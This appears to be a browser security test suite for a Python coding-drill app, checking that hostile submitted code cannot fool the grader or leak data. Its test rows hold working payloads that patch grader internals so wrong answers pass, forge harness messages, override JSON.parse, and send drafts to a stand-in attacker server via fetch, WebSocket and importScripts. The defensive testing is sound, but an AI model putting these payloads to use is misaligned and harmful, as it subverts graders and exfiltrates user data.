// Hostile code in the browser (issue 10): for every row, the run is not a pass, the next Submit of
// correct code passes and of wrong code fails, other drills' drafts and progress are untouched,
// and nothing reaches another origin (a second local server stands in for the attacker's).
import { createServer, type Server as HttpServer } from "node:http";
import type { Browser, BrowserContext, Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openApp, TWO_SUM, writeCode } from "../support/app";
import { launchBrowser, type Server, testPort } from "../support/browser";
import { sharedPreview } from "../support/shared-app";

const SINK_PORT = testPort(4405);
const SINK = `http://127.0.0.1:${SINK_PORT}`;
/** The package source this build uses (Pyodide's CDN, as no drill-config.json names another). */
const PACKAGE_SOURCE = "https://cdn.jsdelivr.net/pyodide/";
const WRONG = "def two_sum(nums, target):\n    return [0, 0]\n";
/** Every hostile row ends with a wrong answer, so only a fooled grader could call it a pass. */
/** The deepest cached recursion the Node checks pass (BROWSER_STACK_MB of stack, inside the harness). */
const NODE_CACHED_RECURSION_LIMIT = 240;
const WRONG_TAIL = "\ndef two_sum(nums, target):\n    return [0, 0]\n";

const ROWS: Record<string, string> = {
  "drill.compare._walk.__code__ replaced": `
import drill.compare
drill.compare._walk.__code__ = (lambda *a: None).__code__
`,
  "Grader._stop_requested made to return True": `
import drill.grade
drill.grade.Grader._stop_requested.__code__ = (lambda self: True).__code__
`,
  "drill.compare.COMPARATORS mutated in place": `
import drill.compare
for name in list(drill.compare.COMPARATORS):
    options = drill.compare.COMPARATORS[name][1]
    drill.compare.COMPARATORS[name] = ((lambda **k: (lambda e, a: None)), options)
`,
  "drill.grade_loading._CASES_MODULES mutated in place": `
import drill.grade_loading
for module in drill.grade_loading._CASES_MODULES.values():
    for c in getattr(module, "CASES", []):
        c.check = lambda *a, **k: None
`,
  "forged js.postMessage of test-finished and run-finished": `
import js
from pyodide.ffi import to_js
for message in ({"type": "test-finished", "runId": "run-1", "result": {"id": "x", "status": "pass"}},
                {"type": "run-finished", "runId": "run-1", "stopped": False,
                 "summary": {"total": 22, "passed": 22, "failed": 0, "errors": 0, "timeouts": 0, "durationMs": 1}}):
    try:
        js.postMessage(to_js(message, dict_converter=js.Object.fromEntries))
    except Exception:
        pass
`,
  "self.onmessage replaced": `
import js
from pyodide.ffi import create_proxy
try:
    js.self.onmessage = create_proxy(lambda e: None)
except Exception:
    pass
try:
    js.addEventListener("message", create_proxy(lambda e: None))
except Exception:
    pass
`,
  "js.close()": `
import js
try:
    js.close()
except Exception:
    pass
`,
  "fetch and XHR to another origin": `
import js
for attempt in (lambda: js.fetch("${SINK}/fetch?drafts=all"),
                lambda: js.self.fetch("${SINK}/self-fetch"),
                lambda: js.XMLHttpRequest.new(),
                lambda: js.WebSocket.new("ws://127.0.0.1:${SINK_PORT}/ws"),
                lambda: js.EventSource.new("${SINK}/events"),
                lambda: js.importScripts("${SINK}/script.js"),
                lambda: js.Worker.new("${SINK}/worker.js")):
    try:
        attempt()
    except Exception:
        pass
`,
  "IndexedDB opened from the worker": `
import js
for attempt in (lambda: js.indexedDB.open("ai-interview-drills"),
                lambda: js.caches.open("drill-python-snapshot"),
                lambda: js.BroadcastChannel.new("ai-interview-drills").postMessage("changed")):
    try:
        attempt()
    except Exception:
        pass
`,
  "js.setTimeout callbacks that change the grader and its cached tests after the run's check": `
import js
from pyodide.ffi import create_proxy

def later():
    import drill.compare
    for name in list(drill.compare.COMPARATORS):
        options = drill.compare.COMPARATORS[name][1]
        drill.compare.COMPARATORS[name] = ((lambda **k: (lambda e, a: None)), options)

def later_cache():
    import drill.grade_loading
    for module in drill.grade_loading._CASES_MODULES.values():
        for c in getattr(module, "CASES", []):
            c.check = lambda *a, **k: None

js.setTimeout(create_proxy(later_cache), 0)
for delay in (0, 50, 500):
    js.setTimeout(create_proxy(later), delay)
js.Promise.resolve().then(create_proxy(lambda _: later()))
`,
  // the worker's JavaScript realm, reached through js and pyodide_js: every run has a worker of its own
  "Array.prototype[Symbol.iterator] made to yield nothing, and the comparators changed": `
from pyodide.code import run_js
import drill.compare
for name in list(drill.compare.COMPARATORS):
    options = drill.compare.COMPARATORS[name][1]
    drill.compare.COMPARATORS[name] = ((lambda **k: (lambda e, a: None)), options)
run_js("Array.prototype[Symbol.iterator] = function* () {}")
`,
  "JSON.parse (which reads every harness event) made to turn failures into passes": `
from pyodide.code import run_js
run_js("""
  const parse = JSON.parse;
  JSON.parse = function (text, reviver) {
    const value = parse(text, reviver);
    if (value && value.type === "test-finished") {
      value.result.status = "pass";
      delete value.result.message;
    }
    return value;
  };
""")
`,
  "pyodide_js.setInterruptBuffer given a buffer that always says stop": `
import js
import pyodide_js
from pyodide.ffi import create_proxy
buffer = js.Int32Array.new(js.SharedArrayBuffer.new(8))
js.setInterval(create_proxy(lambda: js.Atomics.store(buffer, 0, 2)), 1)
pyodide_js.setInterruptBuffer(buffer)
`,
  "a loop of bytearray(50 * 10**6)": `
def two_sum(nums, target):
    keep = []
    while True:
        keep.append(bytearray(50 * 10**6))
`,
};

let server: Server;
let sink: HttpServer;
let sinkHits: string[];
let browser: Browser;
let context: BrowserContext;
let page: Page;
const foreign: string[] = [];
const cspViolations: string[] = [];

/** Submit and wait for its outcome: [passed, total], or the problem shown instead. */
async function submit(): Promise<{ passed: number; total: number; problem: string | null }> {
  const outcome = await page.evaluate(
    () =>
      new Promise<string>((resolve, reject) => {
        const button = [...document.querySelectorAll("button")].find((b) => b.textContent === "Submit");
        if (!button) throw new Error("no Submit button");
        const giveUp = setTimeout(() => reject(new Error("no outcome shown within 100 s")), 100_000);
        let cleared = false;
        const observer = new MutationObserver(() => {
          const shown = document.querySelector(".tests-tab .summary, .tests-tab .run-problem");
          const running = document.querySelector(".run-progress") !== null;
          if (!shown || running) cleared = true;
          else if (cleared) {
            observer.disconnect();
            clearTimeout(giveUp);
            resolve(`${shown.classList.contains("run-problem") ? "problem" : "summary"}|${shown.textContent ?? ""}`);
          }
        });
        observer.observe(document.body, { subtree: true, childList: true, characterData: true });
        button.click();
      }),
  );
  const [kind, text = ""] = outcome.split("|");
  if (kind === "problem") return { passed: 0, total: 0, problem: text };
  const [, passed, total] = /(\d+)\/(\d+) tests passed/.exec(text) ?? [];
  return { passed: Number(passed), total: Number(total), problem: null };
}

/** Every record of the app's database, except those of the drill under attack. */
function otherData(): Promise<string> {
  return page.evaluate(
    () =>
      new Promise<string>((resolve, reject) => {
        const open = indexedDB.open("ai-interview-drills");
        open.onerror = () => reject(open.error);
        open.onsuccess = () => {
          const db = open.result;
          const stores = [...db.objectStoreNames];
          if (stores.length === 0) return resolve("[]");
          const tx = db.transaction(stores, "readonly");
          const out: string[] = [];
          for (const name of stores) {
            const req = tx.objectStore(name).getAll();
            req.onsuccess = () => {
              for (const r of req.result) {
                const text = JSON.stringify(r);
                if (!text.includes("two-sum")) out.push(`${name}:${text}`);
              }
            };
          }
          tx.oncomplete = () => resolve(JSON.stringify(out.sort()));
        };
      }),
  );
}

beforeAll(async () => {
  sinkHits = [];
  sink = createServer((req, res) => {
    sinkHits.push(req.url ?? "");
    res.writeHead(200, { "Access-Control-Allow-Origin": "*" }).end("stolen");
  });
  await new Promise<void>((r) => sink.listen(SINK_PORT, "127.0.0.1", r));
  server = await sharedPreview();
  // real tiers: the recursion test pins the stack depth of optimised code, as users run it (the
  // editor's completions stay off: a second Pyodide, for Jedi, that no test here needs)
  browser = await launchBrowser({ optimisedWasm: true });
  context = await browser.newContext();
  const own = new URL(server.url).origin;
  context.on("request", (r) => {
    // the app itself asks the package source (its availability check, Jedi's wheels); nothing else may go out
    if (new URL(r.url()).origin !== own && !r.url().startsWith("data:") && !r.url().startsWith(PACKAGE_SOURCE))
      foreign.push(r.url());
  });
  page = await context.newPage();
  page.on("console", (m) => {
    if (/Content Security Policy/i.test(m.text())) cspViolations.push(m.text());
  });
  // a draft in another drill, which no run may read, change or delete
  await openApp(page, server.url, "#/drill/merge-intervals");
  await page.waitForFunction(() => Object.keys(window.__drillEditors ?? {}).length > 0, undefined, { timeout: 30_000 });
  await writeCode(page, "# my other draft\n");
  await page.goto(`${server.url}#/drill/two-sum`);
  await page.waitForFunction(() => Object.keys(window.__drillEditors ?? {}).length > 0, undefined, { timeout: 30_000 });
  await page.waitForSelector("html[data-python-state=ready]", { timeout: 90_000 });
}, 180_000);

afterAll(async () => {
  await browser?.close();
  await new Promise((r) => sink?.close(r));
});

describe("hostile code in the browser", () => {
  it("the worker has no storage, network, nested workers or message port left for Python", async () => {
    const names = ["indexedDB", "caches", "XMLHttpRequest", "WebSocket", "EventSource", "importScripts"];
    names.push("Worker", "close", "postMessage", "BroadcastChannel", "addEventListener");
    const probe = `import js\nGONE = [n for n in ${JSON.stringify(names)} if getattr(js, n, None) is not None]\nassert GONE == [], GONE\n`;
    await writeCode(page, `${probe}${TWO_SUM}`);
    const r = await submit();
    expect(r.problem).toBeNull();
    expect(r.passed).toBe(r.total);
  });

  for (const [row, code] of Object.entries(ROWS)) {
    it(`${row}: not a pass; correct code then passes, wrong code fails; other data untouched`, async () => {
      const before = await otherData();
      await writeCode(page, row.startsWith("a loop") ? code : `${code}${WRONG_TAIL}`);
      const hostile = await submit();
      expect(hostile.problem !== null || hostile.passed < hostile.total).toBe(true);
      await page.waitForTimeout(700); // time for anything the code left scheduled to fire
      await writeCode(page, TWO_SUM);
      const right = await submit();
      expect(right.problem).toBeNull();
      expect(right.passed).toBe(right.total);
      expect(right.total).toBeGreaterThan(3);
      await writeCode(page, WRONG);
      const wrong = await submit();
      expect(wrong.problem).toBeNull();
      expect(wrong.passed).toBeLessThan(wrong.total);
      expect(await otherData()).toBe(before);
      expect(sinkHits).toEqual([]);
      expect(foreign).toEqual([]);
    }, 120_000);
  }

  it("passes a cached recursion as deep as the Node checks allow; a deeper one ran out of stack, in plain words", async () => {
    // the Node checks run Pyodide with BROWSER_STACK_MB of stack; this pins that a drill they pass runs here too
    const cached = (depth: number) =>
      `from functools import lru_cache\n@lru_cache(maxsize=None)\ndef down(i):\n    return 0 if i == 0 else 1 + down(i - 1)\n${TWO_SUM.replace("seen = {}", `seen = {}\n    assert down(${depth}) == ${depth}\n    down.cache_clear()`)}`;
    await writeCode(page, cached(NODE_CACHED_RECURSION_LIMIT));
    const fits = await submit();
    expect(fits.problem).toBeNull();
    expect(fits.passed).toBe(fits.total);
    await writeCode(page, cached(1500));
    const deep = await submit();
    expect(deep.passed).toBe(0);
    await page.locator(".tests-tab [data-status=error]").first().click();
    expect(await page.getByRole("region", { name: "Selected test" }).textContent()).toMatch(
      /ran out of stack.*functools\.lru_cache/,
    );
    await writeCode(page, TWO_SUM);
    const right = await submit();
    expect(right.passed).toBe(right.total);
  }, 120_000);

  it("grades two Submits in a row in two workers: what the first left in its worker is gone", async () => {
    // passes only where no earlier run has left its mark in the worker's globals
    const marks = `import js\nseen = getattr(js.self, "drillRanHere", None)\njs.self.drillRanHere = 1\nassert seen is None, "this worker ran code before"\n${TWO_SUM}`;
    await writeCode(page, marks);
    for (let i = 0; i < 2; i++) {
      const r = await submit();
      expect(r.problem).toBeNull();
      expect(r.passed).toBe(r.total);
    }
  }, 120_000);

  it("sends a Content-Security-Policy that refuses connections elsewhere, and the app needs nothing it refuses", async () => {
    const policy = (await page.request.get(server.url)).headers()["content-security-policy"] ?? "";
    expect(policy).toContain("connect-src 'self'");
    expect(policy).not.toContain("'unsafe-eval'");
    const blocked = await page.evaluate(
      (url) =>
        fetch(url).then(
          () => "reached",
          () => "refused",
        ),
      `${SINK}/from-page`,
    );
    expect(blocked).toBe("refused");
    expect(sinkHits).toEqual([]);
    // only the request just refused on purpose is reported
    expect(cspViolations.filter((v) => !v.includes("/from-page"))).toEqual([]);
  });

  it("still has the other drill's draft", async () => {
    expect(await otherData()).toContain("my other draft");
  });
});
